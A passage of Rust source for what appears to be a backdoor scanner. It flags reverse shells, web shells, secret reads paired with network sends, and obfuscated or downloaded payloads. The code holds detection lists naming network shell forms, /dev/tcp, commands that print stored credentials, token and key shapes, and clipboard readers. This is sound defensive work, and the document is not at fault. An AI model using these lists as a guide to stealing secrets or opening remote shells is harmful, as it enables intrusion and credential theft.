//! Command channels in any language: a socket opened near a place that runs commands.
//!
//! The evaluator models shell, Python, JavaScript and PowerShell. A reverse shell in
//! PHP, Ruby, Go, Lua, Groovy, Perl or awk, or one whose stream plumbing the evaluator
//! does not follow, still has two parts that any language spells recognisably: a
//! network socket (`fsockopen`, `TCPSocket.new`, `net.Dial`, `uv.new_tcp`,
//! `/inet/tcp/…`) and a command sink (`proc_open`, `IO.popen`, `exec.Command`,
//! `ProcessBuilder`, `| getline`, `pty.spawn`). Both within [`WINDOW`] lines of each
//! other, outside comments, is read as a shell handed to the network.
//!
//! Measured before it was kept: 10 of 13 blind backdoors of round 2, and none of the
//! 1,039 code files of the benign collections.

use super::super::behaviour::Evidence;
use super::super::text::excerpt;
use super::tables::has_any;
use super::{Findings, MAX_EVIDENCE};

/// Lines between the socket and the command sink that still read as one channel.
pub const WINDOW: usize = 20;

/// Downloads in the languages the evaluator does not model, lowercase.
const FETCHES: [&str; 12] = [
    "net::http.get",
    "net::http.get_response",
    "uri.open(",
    "uri.parse(",
    "httparty.get",
    "faraday.get",
    "file_get_contents(\"http",
    "file_get_contents('http",
    "lwp::simple",
    "http.get(",
    "io.popen(\"curl",
    "`curl ",
];

/// Evaluations of a string as code in those languages (not PHP's `assert` or Lua's
/// `load`, which read as ordinary calls elsewhere).
const CODE_EVALS: [&str; 6] = [
    "eval(",
    "eval ",
    "instance_eval",
    "class_eval",
    "module_eval",
    "loadstring(",
];

/// Forms that open a network socket, lowercase.
const SOCKETS: [&str; 32] = [
    "socket(",
    // awk's coprocess to a network pseudo-file, often spelled in pieces.
    "\"/inet",
    "socket.socket",
    "tcpsocket",
    "tcpserver",
    "fsockopen",
    "stream_socket_client",
    "stream_socket_server",
    "net.dial",
    "net.listen(",
    "new socket(",
    "serversocket",
    "new_tcp(",
    "tcp_connect",
    "/inet/tcp/",
    "/inet4/tcp/",
    "/inet6/tcp/",
    "ztcp ",
    "zsocket",
    "/dev/tcp/",
    "io::socket",
    "new websocket(",
    "websockets.connect",
    "websocket.create_connection",
    "tcpclient",
    "sockets.socket",
    "net.connect(",
    "net.createconnection(",
    ".accept()",
    "tcplistener",
    "socket.tcp(",
    // Node's `net.createServer(sock => …)`: a listener whose connections get a pipe.
    "net.createserver(",
];

/// Inbound web-request input (PHP superglobals and their kin): a command sink close to
/// one is a web shell.
const REQUEST_INPUTS: [&str; 26] = [
    // OpenResty's (nginx's Lua) request headers and arguments.
    "ngx.req.get_headers",
    "ngx.var.http_",
    "ngx.req.get_uri_args",
    "ngx.req.get_body_data",
    "$_get[",
    "$_post[",
    "$_request[",
    "$_cookie[",
    "$_server['http_",
    "$_server[\"http_",
    "php://input",
    "getallheaders(",
    // Go's net/http, Express, Flask and Rails request parameters.
    "r.url.query()",
    "r.formvalue(",
    "r.postformvalue(",
    "req.query.",
    "req.query[",
    "req.body.",
    "req.params.",
    "request.args",
    "request.form",
    // Flask's query and form merged.
    "request.values",
    "request.get_json(",
    "params[:",
    // Flask's raw body.
    "request.get_data(",
    "request.data",
];

/// Lines between request input and a command sink that still read as a web shell.
pub const REQUEST_WINDOW: usize = 8;

/// Forms that run a command or code, lowercase.
const SINKS: [&str; 24] = [
    "proc_open",
    "popen",
    "shell_exec",
    "passthru",
    "system(",
    "exec.command",
    "processbuilder",
    "getruntime().exec",
    "open3.",
    "os.execute",
    "vim.fn.system",
    "jobstart(",
    "[scriptblock]::create",
    "invoke-expression",
    "iex ",
    "iex(",
    "| getline",
    "|& getline",
    "pty.spawn",
    "os.dup2",
    "child_process",
    "cp.exec",
    "eval(",
    "eval \"",
];

/// Forms that run a command, paired only with request input: common enough beside a
/// socket in ordinary tools (a free port found, then a server started) that only a
/// request parameter close by makes them a web shell.
const REQUEST_SINKS: [&str; 5] = ["subprocess.", "execsync(", "spawnsync(", "execfilesync(", "exec("];

/// Whether a line is only a comment in the common comment syntaxes (a `#!` line is not).
pub(super) fn is_comment(line: &str) -> bool {
    let t = line.trim_start();
    (t.starts_with('#') && !t.starts_with("#!"))
        || t.starts_with("//")
        || t.starts_with("--")
        || t.starts_with("/*")
        || t.starts_with('*')
        || t.starts_with(';')
        || t.starts_with('%')
}

/// Whether a line only names a regular expression (`PAT='/dev/tcp/|nc (-e|-c)|bash -i'`,
/// `SUSPICIOUS = re.compile(r"…")`): what a scanner looks for, not what it runs. A
/// value that is later run is read where it runs.
fn is_pattern_assignment(line: &str) -> bool {
    let t = line.trim_start();
    let name_len = t
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .unwrap_or(t.len());
    let Some(value) = t[name_len..].trim_start().strip_prefix('=') else {
        return false;
    };
    let value = value.trim_start();
    let quoted = value.starts_with(['\'', '"'])
        || value.starts_with("re.compile(")
        || value.starts_with("r'")
        || value.starts_with("r\"");
    name_len > 0
        && quoted
        && value.matches('|').count() >= 3
        && has_any(value, &[".*", "\\s", "[^", "(-", "\\|", "\\b"])
}

/// A line (1-based) and the form found on it.
pub type Hit = (usize, &'static str);

/// The first socket line and the command-sink line nearest it, within [`WINDOW`]
/// lines, with the forms that matched.
pub fn find(text: &str) -> Option<(Hit, Hit)> {
    let mut sockets: Vec<Hit> = Vec::new();
    let mut sinks: Vec<Hit> = Vec::new();
    let mut requests: Vec<Hit> = Vec::new();
    let mut request_sinks: Vec<Hit> = Vec::new();
    // A file that matches text against patterns (`grep -E "$PAT"`, `re.search`) may
    // name what it looks for; one that does not has no use for a pattern. Asked only
    // once a line looks like one, so other files are not lowercased again.
    let mut matches_patterns: Option<bool> = None;
    // Node's `net.createServer` is a free port found as often as a listener: it is one
    // only where a connection is piped to a child's input.
    let pipes_a_child = || text.contains(".pipe(") && text.contains("stdin");
    let mut names_a_pattern = |line: &str| {
        is_pattern_assignment(line)
            && *matches_patterns.get_or_insert_with(|| {
                has_any(
                    &text.to_ascii_lowercase(),
                    &["grep", "=~", "re.", ".match(", ".test(", "regexp"],
                )
            })
    };
    for (index, line) in text.lines().enumerate() {
        if line.len() > 4096 || is_comment(line) || names_a_pattern(line) {
            continue;
        }
        let lower = line.to_ascii_lowercase();
        if let Some(form) = SOCKETS.iter().find(|s| lower.contains(**s))
            && (*form != "net.createserver(" || pipes_a_child())
        {
            sockets.push((index + 1, form));
        }
        if let Some(form) = REQUEST_INPUTS.iter().find(|s| lower.contains(**s)) {
            requests.push((index + 1, form));
        }
        if let Some(form) = SINKS.iter().find(|s| lower.contains(**s)) {
            sinks.push((index + 1, form));
            request_sinks.push((index + 1, form));
        } else if let Some(form) = REQUEST_SINKS.iter().find(|s| lower.contains(**s)) {
            request_sinks.push((index + 1, form));
        }
    }
    let near = |sources: &[Hit], sinks: &[Hit], window: usize| {
        sources.iter().find_map(|source| {
            sinks
                .iter()
                .filter(|sink| sink.0.abs_diff(source.0) <= window)
                .min_by_key(|sink| sink.0.abs_diff(source.0))
                .map(|sink| (*source, *sink))
        })
    };
    near(&sockets, &sinks, WINDOW).or_else(|| near(&requests, &request_sinks, REQUEST_WINDOW))
}

/// Records a command channel found in `text` (the file `path`) as `network-shell`
/// evidence whose source is the socket.
pub fn record(out: &mut Findings, path: &str, text: &str) {
    let Some(((socket_line, socket_form), (sink_line, sink_form))) = find(text) else {
        return;
    };
    let line_text = |n: usize| text.lines().nth(n - 1).unwrap_or_default();
    let socket = behaviour_evidence(
        out,
        "network-socket",
        path,
        socket_line,
        line_text(socket_line),
        if REQUEST_INPUTS.contains(&socket_form) {
            format!("reads a web request's input ({})", socket_form.trim())
        } else {
            format!("opens a network socket ({})", socket_form.trim())
        },
        None,
    );
    behaviour_evidence(
        out,
        "network-shell",
        path,
        sink_line,
        line_text(sink_line),
        format!(
            "runs commands ({}) within {} lines of the network input at line {socket_line}",
            sink_form.trim(),
            sink_line.abs_diff(socket_line)
        ),
        socket,
    );
}

/// Forms that send data over the network in the languages the evaluator does not
/// model, lowercase: HTTP clients' posting calls, SMTP, and the sockets above.
const SENDS: [&str; 35] = [
    // Go's `client.Post(url, …)` and `client.PostForm`, Ruby's `conn.post(…)`.
    ".post(",
    // Go's `client.Do(req)`: a request of any method, its headers included.
    ".do(req)",
    "client.do(",
    ".postform(",
    "net::http.post",
    "net::http.start",
    "net::http::post",
    "httparty.post",
    "faraday.post",
    "restclient.post",
    "rest-client",
    "http.newrequest(\"post\"",
    "http.methodpost",
    "reqwest::",
    "ureq::post",
    "curl_exec(",
    "curlopt_postfields",
    "stream_context_create(",
    "wp_remote_post(",
    "lwp::useragent",
    "http::tiny",
    "->post(",
    "socket.http",
    "http.request(",
    "smtp.sendmail(",
    "net::smtp",
    "smtp.start",
    "new mailmessage(",
    "openconnection()",
    "httpclient.newhttpclient",
    "webclient()",
    ".uploadstring(",
    "http::post(",
    // Terraform's http data source, read at `plan`.
    "data \"http\"",
    "request_body",
];

/// Name lookups in those languages, lowercase: a query for a name someone else's
/// server answers carries its labels there.
const LOOKUPS: [&str; 9] = [
    "net.lookuphost(",
    "net.lookupip(",
    "net.lookuptxt(",
    "net.lookupaddr(",
    ".lookuphost(",
    "resolv.getaddress",
    "resolv::dns",
    "gethostbyname(",
    "dns.resolve",
];

/// Decoders whose output, handed straight to `eval`, runs code no file shows: PHP's
/// `gzinflate(str_rot13(base64_decode(…)))`, Perl's `unpack("u", …)`, Ruby's
/// `Base64.decode64`, Lua's `load(…)` of decoded text.
const DECODERS: [&str; 16] = [
    "gzinflate(",
    "gzuncompress(",
    "gzdecode(",
    "base64_decode(",
    "str_rot13(",
    "unpack(",
    "decode_base64(",
    "decode64(",
    "from_base64(",
    "convert.frombase64string(",
    "hex2bin(",
    // Perl's `pack("H*", $hex)`: hex digits to the bytes they spell.
    "pack(\"h*\"",
    "pack('h*'",
    // `zlib.inflate(`, Ruby's `Zlib::Inflate.inflate(` and `unpack1("m")` (base64).
    "inflate(",
    "unpack1(",
    // Go's `base64.StdEncoding.DecodeString(…)`.
    ".decodestring(",
];

/// Forms that run what they are given as code, in those languages.
/// (`:eval,` and `:eval)` are Ruby's eval named as a symbol: `send(:eval, …)`,
/// `method(:eval).call`.)
const EVALS: [&str; 8] = [
    "eval(",
    "eval ",
    "assert(",
    "instance_eval(",
    "loadstring(",
    "load(",
    ":eval,",
    ":eval)",
];

/// Forms that read the whole environment, in those languages.
const ENV_DUMPS: [&str; 8] = [
    "env.to_h",
    "env.each",
    "env.to_a",
    "os.environ()",
    "std::env::vars()",
    "env::vars()",
    "%env",
    "getenv()",
];

/// Patterns that match private keys and tokens by their shape, lowercase: a search of
/// files for them is a search for secrets (a Solana keypair in base58, an Ethereum key
/// in hex, a PEM private key, an AWS or GitHub token).
const KEY_SHAPES: [&str; 7] = [
    "[1-9a-hj-np-za-km-z]{8",
    "0x[0-9a-fa-f]{64}",
    "0x[0-9a-f]{64}",
    "private key-----",
    "akia[0-9a-z]{16}",
    "ghp_[a-za-z0-9]{36}",
    "xox[baprs]-",
];

/// Commands that print a credential a tool keeps, run from those languages (backticks,
/// `exec.Command`, `system`), lowercase.
const SECRET_COMMANDS: [&str; 12] = [
    "rclone config dump",
    "rclone reveal",
    "gh auth token",
    "security find-generic-password",
    "security find-internet-password",
    "export-credentials",
    "print-access-token",
    "get-access-token",
    "config view --raw",
    "git credential fill",
    "op item get",
    "vault kv get",
];

/// Records, for a file in a language the evaluator does not model, a secret file it
/// names (a literal path, or literal pieces joined on one line) or the whole
/// environment it reads, together with a network send in the same file: `secret-read`
/// and `egress` evidence, which the skill-wide rule pairs. A secret named in a file
/// that sends nothing, or a send beside no secret, records nothing.
pub fn record_unmodelled(out: &mut Findings, path: &str, text: &str) {
    let mut secret: Option<(usize, String, &'static str)> = None;
    // The file lowercased once, for every reading below that asks what it holds.
    let lower = text.to_ascii_lowercase();
    // Whether the code walks or reads files, asked once.
    let mut walks: Option<bool> = None;
    let mut reads_files = || {
        *walks.get_or_insert_with(|| {
            has_any(
                &lower,
                &[
                    "walkdir",
                    "read_to_string",
                    "read_dir",
                    "filepath.walk",
                    "os.readfile",
                    "file.read",
                    "dir.glob",
                    "readfile",
                ],
            )
        })
    };
    let mut send: Option<(usize, &'static str, &'static str)> = None;
    // The closing bracket of a word array (`%w[`, `qw(`) left open on an earlier line,
    // and whether that array lists what to leave out (`EXCLUDE = %w[`).
    let mut open_words: Option<char> = None;
    let mut words_exclude = false;
    for (index, line) in text.lines().enumerate() {
        // A word array's lines are words, whatever they start with (`**/.env`).
        if line.len() > 4096 || open_words.is_none() && is_comment(line) {
            continue;
        }
        let mut continued: Vec<String> = Vec::new();
        if let Some(close) = open_words {
            let words = line.split(close).next().unwrap_or(line);
            continued.extend(words.split_whitespace().map(str::to_string));
            if line.contains(close) {
                open_words = None;
            }
        } else {
            open_words = unclosed_word_array(line);
            words_exclude = open_words.is_some() && excludes(line);
        }
        // A dotenv glob in a list of what to leave out is kept out, not searched for.
        let excluding = if continued.is_empty() {
            excludes(line)
        } else {
            words_exclude
        };
        let lower = line.to_ascii_lowercase();
        if send.is_none() {
            send = [
                (&SENDS[..], "egress/http"),
                (&LOOKUPS[..], "egress/dns"),
                (&SOCKETS[..], "egress/http"),
            ]
            .into_iter()
            .find_map(|(forms, tag)| forms.iter().find(|f| lower.contains(**f)).map(|f| (index + 1, *f, tag)));
        }
        if secret.is_none() {
            let mut literals = string_literals(line);
            let joined = literals.join("/");
            literals.append(&mut continued);
            secret = literals
                .iter()
                .map(String::as_str)
                .chain([joined.as_str()])
                .find_map(|l| {
                    super::tables::secret_path_kind(l)
                        .or_else(|| super::tables::is_local_env_file(l).then_some("env-file"))
                        .or_else(|| (is_env_glob(l) && !excluding).then_some("env-file"))
                        .map(|kind| (index + 1, l.to_string(), kind))
                })
                .or_else(|| {
                    ENV_DUMPS
                        .iter()
                        .find(|f| lower.contains(**f))
                        .map(|f| (index + 1, f.to_string(), "env-dump"))
                })
                .or_else(|| {
                    SECRET_COMMANDS
                        .iter()
                        .find(|c| lower.contains(**c))
                        .map(|c| (index + 1, c.to_string(), "cli-credentials"))
                })
                .or_else(|| {
                    // Ruby's `ENV.select { |k, _| k =~ /TOKEN/ }`: the environment
                    // searched (Rack's request `env` is lowercase).
                    ["ENV.select", "ENV.filter"]
                        .iter()
                        .find(|f| line.contains(**f))
                        .map(|f| (index + 1, f.to_string(), "env-dump"))
                })
                .or_else(|| {
                    // A key's shape searched for in files the code reads (a
                    // transaction hash has an Ethereum key's shape too).
                    KEY_SHAPES
                        .iter()
                        .find(|c| lower.contains(**c))
                        .filter(|_| reads_files())
                        .map(|c| (index + 1, format!("a search for key material ({c})"), "key-search"))
                });
        }
        if secret.is_some() && send.is_some() {
            break;
        }
    }
    // A decoder's output run as code on the same line: the code is hidden.
    if let Some((index, line)) = text.lines().enumerate().find(|(_, line)| {
        let lower = line.to_ascii_lowercase();
        line.len() <= 4096
            && !is_comment(line)
            && EVALS.iter().any(|e| lower.contains(e))
            && DECODERS.iter().any(|d| lower.contains(d))
    }) {
        behaviour_evidence(
            out,
            "exec/decoded",
            path,
            index + 1,
            line,
            "runs code it decodes (a decoder's output handed to eval)".into(),
            None,
        );
    }
    // A download and an evaluation of a string within a few lines of each other: code
    // fetched and run (a self-updater's remote "cops" handed to `eval`).
    if let Some((index, line)) = fetch_then_eval(text) {
        behaviour_evidence(
            out,
            "exec/fetched",
            path,
            index + 1,
            line,
            "runs code it downloads (a download and an eval within a few lines)".into(),
            None,
        );
    }
    // A command put back together from a table of fragments (`[]string{"wge", "t -",
    // …}` read in an index order) and handed to a shell: what it runs is in no file.
    if let Some((index, line)) = fragments_to_shell(text) {
        behaviour_evidence(
            out,
            "exec/computed",
            path,
            index + 1,
            line,
            "runs a command assembled from a table of string fragments".into(),
            None,
        );
    }
    // Character codes (`[115, 121, …].pack('U*')`, a Go byte table shifted by a few)
    // that spell a command or an address, in a file that runs code: a hidden payload.
    if let Some((index, line, decoded)) = numeric_payload(text).or_else(|| keyed_byte_table(text))
        && (has_any(&lower, &SINKS)
            || has_any(&lower, &CODE_EVALS)
            // Ruby's eval named as a symbol; Lua's `(loadstring or load)(…)`; Go's
            // `os/exec` imported under another name (`rt.Command(…)`); Rust's
            // `Command::new(…)`.
            || has_any(&lower, &[":eval,", ":eval)", "loadstring", "\"os/exec\"", "command::new("]))
    {
        behaviour_evidence(
            out,
            "exec/decoded",
            path,
            index + 1,
            line,
            format!("runs code spelled as character codes: {decoded}"),
            None,
        );
    }
    // A method named letter by letter (`%w[s y s t e m].join`) and called: the call
    // is spelled so that no search for `system` finds it.
    if let Some((index, line, name)) = spelled_method(text) {
        behaviour_evidence(
            out,
            "exec/computed",
            path,
            index + 1,
            line,
            format!("calls `{name}`, its name spelled letter by letter"),
            None,
        );
    }
    // DNS TXT records decoded and handed to a shell: a command channel any resolver
    // carries (a zone's owner answers with the next command).
    if has_any(
        &lower,
        &[
            "lookuptxt(",
            "'txt')",
            "\"txt\")",
            "resolv::dns::resource::in::txt",
            "-type txt",
        ],
    ) && has_any(&lower, &DECODERS)
        && has_any(&lower, &SINKS)
        && let Some((index, line)) = {
            // The shell the records reach: the first after the lookup.
            // `lower` is `text` lowercased, line for line.
            let lookup = lower
                .lines()
                .position(|l| has_any(l, &["lookuptxt(", "txt"]))
                .unwrap_or(0);
            // A shell, not a program handed a record (`openssl` given a DKIM key).
            let shells = [
                "\"sh\"",
                "/bin/sh",
                "\"bash\"",
                "/bin/bash",
                "\"cmd\"",
                "powershell",
                "\"-c\"",
            ];
            text.lines()
                .zip(lower.lines())
                .enumerate()
                .skip(lookup)
                .find(|(_, (l, low))| has_any(low, &SINKS) && has_any(low, &shells) && !is_comment(l))
                .map(|(index, (l, _))| (index, l))
        }
    {
        behaviour_evidence(
            out,
            "exec/fetched",
            path,
            index + 1,
            line,
            "runs commands it reads from DNS TXT records (decoded, then handed to a shell)".into(),
            None,
        );
    }
    record_download_run(out, path, text, &lower, false);
    if let Some((index, line)) = fetch_then_command(text) {
        behaviour_evidence(
            out,
            "exec/fetched",
            path,
            index + 1,
            line,
            "runs a program its download names (what a server answers chooses what runs)".into(),
            None,
        );
    }
    // Another agent's instructions appended to or written, with a standing directive
    // in the file's text (a `build.rs` adding a rule to `CLAUDE.md`).
    if let Some((index, line)) = writes_agent_instructions(text, &lower) {
        behaviour_evidence(
            out,
            "agent-config/planted",
            path,
            index + 1,
            line,
            "writes an agent's instructions with a standing directive".into(),
            None,
        );
    }
    let secret = secret.or_else(|| {
        // The clipboard read where the same file sends: what is copied leaves.
        send.and(text.lines().enumerate().find_map(|(index, line)| {
            (!is_comment(line) && has_any(&line.to_ascii_lowercase(), &CLIPBOARD_READS))
                .then(|| (index + 1, "the clipboard".to_string(), "clipboard"))
        }))
    });
    let half = |line: usize, what: String, tag: &'static str| PackageHalf {
        file: path.to_string(),
        line,
        line_text: text.lines().nth(line - 1).unwrap_or_default().to_string(),
        what,
        tag,
    };
    match (secret, send) {
        (Some((secret_line, what, kind)), Some((send_line, form, tag))) => {
            emit_read_and_send(
                out,
                &half(secret_line, what, kind),
                &half(send_line, form.to_string(), tag),
            );
        }
        // A Go package's files compile as one: a secret named in `nonce.go` and a lookup
        // in `main.go` are one program's read and send (see [`pair_package_halves`]).
        // A test file is not built into the program; an environment handed to a child
        // process or a project's own `.env` is everyday configuration.
        (secret, send)
            if path.ends_with(".go") && !path.ends_with("_test.go") && out.package_halves.len() < MAX_EVIDENCE =>
        {
            if let Some((line, what, kind)) = secret.filter(|(_, _, kind)| !matches!(*kind, "env-dump" | "env-file")) {
                out.package_halves.push((true, half(line, what, kind)));
            }
            if let Some((line, form, tag)) = send {
                out.package_halves.push((false, half(line, form.to_string(), tag)));
            }
        }
        _ => {}
    }
}

/// A secret read, then a send carrying on from it.
fn emit_read_and_send(out: &mut Findings, read: &PackageHalf, send: &PackageHalf) {
    let source = behaviour_evidence(
        out,
        &format!("secret-read/{}", read.tag),
        &read.file,
        read.line,
        &read.line_text,
        format!("names {}", read.what),
        None,
    );
    behaviour_evidence(
        out,
        send.tag,
        &send.file,
        send.line,
        &send.line_text,
        format!("sends over the network ({})", send.what.trim()),
        source,
    );
}

/// One file's half of a secret read and a send: where, and what (the secret named and
/// its kind, or the send's form and its `egress/…` tag).
#[derive(Clone, Debug)]
pub struct PackageHalf {
    file: String,
    line: usize,
    line_text: String,
    what: String,
    tag: &'static str,
}

/// Pairs a secret read in one file of a Go package with a send in another file of the
/// same folder.
pub fn pair_package_halves(out: &mut Findings) {
    let halves = std::mem::take(&mut out.package_halves);
    fn folder(h: &PackageHalf) -> &str {
        h.file.rsplit_once('/').map_or("", |(dir, _)| dir)
    }
    for (_, read) in halves.iter().filter(|(is_read, _)| *is_read) {
        if let Some((_, send)) = halves
            .iter()
            .find(|(is_read, h)| !is_read && h.file != read.file && folder(h) == folder(read))
        {
            emit_read_and_send(out, read, send);
            return;
        }
    }
}

/// Records the scripts `text` names as git credential helpers: a `helper =` line of a
/// git config (`helper = "!f() { ~/.config/x/helper.sh \"$@\"; }; f"`, `helper =
/// /opt/x/cred.py`) or `git config credential.helper '!…'`. Git hands a helper every
/// login it stores or fills on its input.
pub fn record_credential_helpers(out: &mut Findings, path: &str, text: &str) {
    for (index, line) in text.lines().enumerate().take(20_000) {
        if line.len() > 4096 || out.credential_helpers.len() >= 16 {
            break;
        }
        let lower = line.to_ascii_lowercase();
        let Some(at) = lower.find("helper") else { continue };
        let rest = &line[at + "helper".len()..];
        // `helper = …` in a config, `credential.helper …` on a command line.
        if !(rest.trim_start().starts_with('=') || lower[..at].ends_with("credential.")) {
            continue;
        }
        for word in rest.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ';' | '{' | '}' | '=')) {
            let name = word.rsplit('/').next().unwrap_or(word);
            let ext = name
                .rsplit_once('.')
                .map(|(_, e)| e.to_ascii_lowercase())
                .unwrap_or_default();
            if matches!(ext.as_str(), "sh" | "bash" | "py" | "js" | "mjs" | "rb" | "pl" | "ps1") {
                out.credential_helpers
                    .push((path.to_string(), index + 1, line.trim().to_string(), name.to_string()));
            }
        }
    }
}

/// Pairs each credential helper named in one file with a script of that name the skill
/// ships that sends data out: the helper reads every git login (`secret-read`), and the
/// send carries on from it.
pub fn pair_credential_helpers(out: &mut Findings) {
    let helpers = std::mem::take(&mut out.credential_helpers);
    for (file, line, shown, script) in helpers {
        let sends = out.evidence.iter().position(|e| {
            e.tag.starts_with("egress/") && e.file.rsplit(['/', '!']).next().is_some_and(|n| n == script)
        });
        if let Some(send) = sends {
            let read = behaviour_evidence(
                out,
                "secret-read/dev-credentials",
                &file,
                line,
                &shown,
                format!("names `{script}` as a git credential helper: git hands it every login"),
                None,
            );
            if out.evidence[send].source.is_none() {
                out.evidence[send].source = read;
            }
            return;
        }
    }
}

/// A `go.mod` `replace` that swaps a module for one served by a host no Go module is
/// commonly published on (`golang.org/x/tools => go.tools-mirror.example/x/tools`):
/// `go run` and `go build` fetch and compile that host's code.
pub fn record_go_replacements(out: &mut Findings, path: &str, text: &str) {
    const KNOWN_HOSTS: [&str; 14] = [
        "github.com",
        "gitlab.com",
        "bitbucket.org",
        "golang.org",
        "google.golang.org",
        "gopkg.in",
        "go.googlesource.com",
        "k8s.io",
        "sigs.k8s.io",
        "go.uber.org",
        "go.opentelemetry.io",
        "cloud.google.com",
        "honnef.co",
        "go.etcd.io",
    ];
    for (index, line) in text.lines().enumerate() {
        let trimmed = line.trim();
        let Some(rest) = trimmed.strip_prefix("replace ").or_else(|| {
            // Inside a `replace ( … )` block, each line is `old => new`.
            trimmed.contains("=>").then_some(trimmed)
        }) else {
            continue;
        };
        let Some((from, to)) = rest.split_once("=>") else {
            continue;
        };
        let target = to.split_whitespace().next().unwrap_or("");
        // A local folder (`../fork`, `./x`, `/abs`) is code the skill ships or the user has.
        if target.is_empty() || target.starts_with(['.', '/']) {
            continue;
        }
        let host = target.split('/').next().unwrap_or("").to_ascii_lowercase();
        let from_host = from
            .split_whitespace()
            .next()
            .unwrap_or("")
            .split('/')
            .next()
            .unwrap_or("")
            .to_ascii_lowercase();
        if !host.contains('.') || host == from_host || KNOWN_HOSTS.contains(&host.as_str()) {
            continue;
        }
        behaviour_evidence(
            out,
            "exec/fetched",
            path,
            index + 1,
            line,
            format!("builds and runs a module from {host} in place of {}", from.trim()),
            None,
        );
        return;
    }
}

/// Commands that print the clipboard, lowercase.
const CLIPBOARD_READS: [&str; 9] = [
    "pbpaste",
    "xclip -o",
    "xsel -o",
    "xsel --output",
    "wl-paste",
    "get-clipboard",
    "clipboard.readtext",
    "getclipboarddata",
    "clipboard::get",
];

/// Fewest character codes read as a spelled string.
const MIN_CODES: usize = 6;

/// What decoded bytes spell when they are a command or an address. A keyed table tries
/// up to 351 readings (the file's short strings and byte tables, every single byte, 32
/// shifts), each forwards and backwards, so it reads only the first [`KEYED_TELLS`],
/// which chance rarely spells.
const DECODED_TELLS: [&str; 10] = [
    "http://",
    "https://",
    "/bin/",
    "curl ",
    "wget ",
    "| sh",
    "powershell",
    "|sh",
    "system(",
    "exec(",
];
const KEYED_TELLS: usize = 7;

/// The first list of at least [`MIN_CODES`] small integers that spells, as it stands or
/// shifted by up to 7, a command, an address or a call to run code: the line and what
/// it spells.
fn numeric_payload(text: &str) -> Option<(usize, &str, String)> {
    for (index, line) in text.lines().enumerate() {
        if line.len() > 65_536 || is_comment(line) {
            continue;
        }
        for run in line.split(|c: char| !(c.is_ascii_digit() || c == ',' || c == ' ')) {
            let codes: Vec<i32> = run
                .split(',')
                .map(str::trim)
                .filter(|w| !w.is_empty())
                .map_while(|w| w.parse::<i32>().ok())
                .collect();
            if codes.len() < MIN_CODES || codes.iter().any(|c| !(0..=255).contains(c)) {
                continue;
            }
            for shift in -7..=7 {
                let spelled: Option<String> = codes
                    .iter()
                    .map(|c| {
                        u8::try_from(c + shift)
                            .ok()
                            .filter(|b| b.is_ascii_graphic() || *b == b' ')
                            .map(char::from)
                    })
                    .collect();
                if let Some(spelled) = spelled
                    && has_any(&spelled.to_ascii_lowercase(), &DECODED_TELLS)
                {
                    return Some((index, line, spelled.chars().take(120).collect()));
                }
            }
        }
    }
    None
}

/// A byte table written over several lines (`[]byte{0x4b, 0x0d, …}`) that spells a
/// command once XORed with a key (one of the file's short string literals, repeated,
/// or a single byte) or shifted by up to 16, read forwards or backwards (at most
/// [`MAX_TABLE_BYTES`] of tables in a file). Returns the table's first line, and what
/// it spells.
fn keyed_byte_table(text: &str) -> Option<(usize, &str, String)> {
    const MAX_TABLE: usize = 4 * 1024;
    // Bytes of tables tried in all: decoys before the real table spend it only by
    // being as large as what they hide.
    const MAX_TABLE_BYTES: usize = 64 * 1024;
    // The keys, read once a table is found.
    let mut keys: Vec<Vec<u8>> = Vec::new();
    let mut tables = 0;
    // Innermost brackets only, in one pass: each body is read once, so a file of
    // brackets costs its length.
    let mut open = None;
    for (at, c) in text.char_indices() {
        match c {
            '{' | '[' => {
                open = Some(at + 1);
                continue;
            }
            '}' | ']' => {}
            _ => continue,
        }
        let Some(start) = open.take() else {
            continue;
        };
        let body = &text[start..at];
        if body.len() > MAX_TABLE * 6 {
            continue;
        }
        // On one line a table must be longer: short ones are magic numbers.
        let least = if body.contains('\n') { 16 } else { 24 };
        let Some(bytes) = byte_list(body).filter(|b| b.len() >= least) else {
            continue;
        };
        tables += bytes.len();
        if tables > MAX_TABLE_BYTES {
            return None;
        }
        if keys.is_empty() {
            keys = text
                .lines()
                .filter(|l| l.len() <= 4096)
                .flat_map(string_literals)
                .filter(|k| (2..=32).contains(&k.len()))
                .take(64)
                .map(String::into_bytes)
                .chain(short_byte_tables(text))
                .chain((1..=255u8).map(|b| vec![b]))
                .collect();
        }
        let readable = |c: u8| (c.is_ascii_graphic() || matches!(c, b' ' | b'\n' | b'\t')).then_some(char::from(c));
        // XORed with a key, or shifted by a few (`string.char(P[i] - 7)`).
        let xored = keys.iter().map(|key| {
            bytes
                .iter()
                .zip(key.iter().cycle())
                .map(|(b, k)| readable(b ^ k))
                .collect()
        });
        let shifted = (-16i16..=16).filter(|s| *s != 0).map(|s| {
            bytes
                .iter()
                .map(|b| u8::try_from(i16::from(*b) + s).ok().and_then(readable))
                .collect()
        });
        for spelled in xored.chain(shifted) {
            let Some(spelled): Option<String> = spelled else {
                continue;
            };
            let lower = spelled.to_ascii_lowercase();
            // Read backwards too: a table reversed after decoding.
            let backwards: String = lower.chars().rev().collect();
            if has_any(&lower, &DECODED_TELLS[..KEYED_TELLS]) || has_any(&backwards, &DECODED_TELLS[..KEYED_TELLS]) {
                let index = text[..start].matches('\n').count();
                let line = text.lines().nth(index).unwrap_or_default();
                let shown = if has_any(&lower, &DECODED_TELLS[..KEYED_TELLS]) {
                    spelled
                } else {
                    spelled.chars().rev().collect()
                };
                return Some((index, line, shown.chars().take(120).collect()));
            }
        }
    }
    None
}

/// The bytes a bracket body lists (`0x5a, 0x13`, `90 19`), if it lists only bytes.
fn byte_list(body: &str) -> Option<Vec<u8>> {
    body.split(|c: char| c == ',' || c.is_whitespace())
        .filter(|w| !w.is_empty())
        .map(|w| {
            w.strip_prefix("0x")
                .or_else(|| w.strip_prefix("0X"))
                .map_or_else(|| w.parse::<u8>().ok(), |h| u8::from_str_radix(h, 16).ok())
        })
        .collect()
}

/// Byte tables of 2 to 32 bytes (`mask = []byte{0x5a, 0x13, 0xc4, 0x7e}`): keys a
/// longer table may be XORed with. At most 16, innermost brackets only.
fn short_byte_tables(text: &str) -> Vec<Vec<u8>> {
    let mut out = Vec::new();
    let mut open = None;
    for (at, c) in text.char_indices() {
        match c {
            '{' | '[' => open = Some(at + 1),
            '}' | ']' => {
                if let Some(start) = open.take()
                    && at - start <= 32 * 6
                    && let Some(key) = byte_list(&text[start..at]).filter(|b| (2..=32).contains(&b.len()))
                {
                    out.push(key);
